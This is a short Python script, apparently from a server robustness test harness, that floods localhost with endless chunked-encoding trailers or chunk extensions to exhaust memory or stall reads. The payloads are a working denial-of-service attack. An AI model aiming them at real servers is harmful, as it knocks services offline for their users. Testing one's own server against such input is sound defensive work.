"""Send endless trailers after an empty chunked body, or an endless extension of a chunk, without a key.

A server that does not count these bytes uses more and more memory, or reads forever.
"""

from attacker import Attacker, run

TRAILERS = b"a:b\r\n" * 7_000
"""35 kB of the shortest trailers: each becomes several objects in the memory of the server."""
VARIANTS = [
    (b"GET /healthz", b"0\r\n", TRAILERS),
    (b"POST /v1/recommend", b"0\r\n", TRAILERS),
    (b"GET /healthz", b"0;", b"a=b;" * 9_000),
    (b"GET /docs", b"0\r\n", TRAILERS),
]
"""Request, beginning of the body, and what is sent again and again."""


async def attack(attacker: Attacker) -> None:
    async def client(number: int) -> None:
        target, opening, more = VARIANTS[number % len(VARIANTS)]
        headers = b"Host: localhost\r\nTransfer-Encoding: chunked\r\n\r\n"
        await attacker.occupy(target + b" HTTP/1.1\r\n" + headers + opening, more, pause=0.02)

    await attacker.gather(4, client)


if __name__ == "__main__":
    run(attack)
